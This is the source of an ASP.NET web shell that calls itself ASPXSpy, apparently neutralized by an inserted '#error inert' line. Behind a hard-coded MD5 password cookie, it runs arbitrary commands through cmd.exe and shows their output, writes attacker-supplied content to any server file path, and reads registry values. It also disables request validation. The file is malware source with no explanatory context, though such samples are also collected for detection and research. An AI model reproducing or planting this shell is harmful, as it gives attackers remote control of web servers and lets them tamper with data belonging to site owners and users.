<%@ Page Language="C#" Debug="true" trace="false" validateRequest="false" EnableViewStateMac="false" EnableViewState="true"%>
<%@ import Namespace="System.IO"%>
<%@ import Namespace="System.Diagnostics"%>
<%@ import Namespace="Microsoft.Win32"%>
<script runat="server">
#error inert
public string Password = "21232f297a57a5a743894a0e4a801fc3";
public string vbhLn = "ASPXSpy";
protected void Page_Load(object sender, EventArgs e)
{
    if (!check()) { return; }
    if (IsPostBack) { ViewState["s"] = Bin_TB_Path.Value; }
}
public bool check()
{
    if (Request.Cookies[vbhLn] == null || Request.Cookies[vbhLn].Value != Password) { loginDiv.Visible = true; return false; }
    loginDiv.Visible = false; return true;
}
protected void Login_Click(object sender, EventArgs e)
{
    string h = FormsAuthentication.HashPasswordForStoringInConfigFile(passTb.Text, "MD5").ToLower();
    if (h == Password) { Response.Cookies.Add(new HttpCookie(vbhLn, Password)); }
}
protected void Lb_Cmd(object sender, EventArgs e) { CmdDiv.Visible = true; }
protected void Cmd_Run(object sender, EventArgs e)
{
    Process p = new Process();
    p.StartInfo.FileName = kusi.Value;
    p.StartInfo.Arguments = bkcm.Value;
    p.StartInfo.UseShellExecute = false;
    p.StartInfo.RedirectStandardOutput = true;
    p.Start();
    tnQRF.InnerHtml = "<pre>" + Server.HtmlEncode(p.StandardOutput.ReadToEnd()) + "</pre>";
}
protected void Save_Click(object sender, EventArgs e)
{
    StreamWriter sw = new StreamWriter(Bin_TB_Path.Value, false, Encoding.Default);
    sw.Write(Bin_TB_Body.InnerText);
    sw.Close();
}
protected void Reg_Click(object sender, EventArgs e) { tnQRF.InnerText = "" + Registry.GetValue(regp.Value, regv.Value, ""); }
</script>
<form runat="server"><div id="loginDiv" runat="server"><asp:TextBox id="passTb" runat="server"/><asp:Button runat="server" OnClick="Login_Click"/></div>
<asp:LinkButton runat="server" Text="CmdShell" OnClick="Lb_Cmd"/> | <asp:LinkButton runat="server" Text="RegShell" OnClick="Reg_Click"/>
<div id="CmdDiv" runat="server"><input id="kusi" runat="server" value="c:\windows\system32\cmd.exe"/><input id="bkcm" runat="server"/><asp:Button runat="server" OnClick="Cmd_Run"/></div>
<input id="Bin_TB_Path" runat="server"/><textarea id="Bin_TB_Body" runat="server"></textarea><asp:Button runat="server" OnClick="Save_Click"/>
<input id="regp" runat="server"/><input id="regv" runat="server"/><div id="tnQRF" runat="server"></div></form>
